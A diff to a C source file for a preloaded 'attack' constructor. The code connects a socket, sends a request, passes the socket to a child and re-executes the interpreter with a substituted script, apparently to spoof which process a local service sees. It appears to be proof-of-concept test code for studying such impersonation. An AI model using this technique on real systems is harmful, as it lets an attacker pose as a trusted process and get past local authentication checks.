@@ -1,6 +1,8 @@
 /*
  * Preloaded into an interpreter: connects, is looked at, writes a request, leaves the socket with a child, and executes the same
  * interpreter with another script. Meanwhile another process shares the memory that it had ("shared"), or nobody does ("alone").
+ * Arguments and environment are as long as before, so that the kernel puts everything in the same place if it doesn't choose at
+ * random: it is to be started with a script of its own whose name is as long as the other's.
  *
  *   ATTACK="TRICK SOCKET SCRIPT", REQUEST
  */
@@ -25,9 +27,9 @@ static int share(void *unused) {
   return 0;
 }
 
-__attribute__((constructor)) static void attack(void) {
+__attribute__((constructor)) static void attack(int argc, char **argv, char **envp) {
   char *words = getenv("ATTACK");
-  if (words == NULL) {
+  if (words == NULL || argc != 2) {
     return;
   }
   char trick[16];
@@ -60,8 +62,13 @@ __attribute__((constructor)) static void attack(void) {
     while (!atomic_load(&sharing)) {
     }
   }
-  char *arguments[] = {"bash", script, NULL};
-  char *environment[] = {"HOME=/", NULL};
-  execve("/proc/self/exe", arguments, environment);
+  char self[256] = "";
+  check((int)readlink("/proc/self/exe", self, sizeof self - 1), "readlink");
+  for (char **variable = envp; *variable != NULL; variable++) {
+    /* None of them means anything by that name. */
+    **variable = '_';
+  }
+  argv[1] = script;
+  execve(self, argv, envp);
   fail("execve");
 }
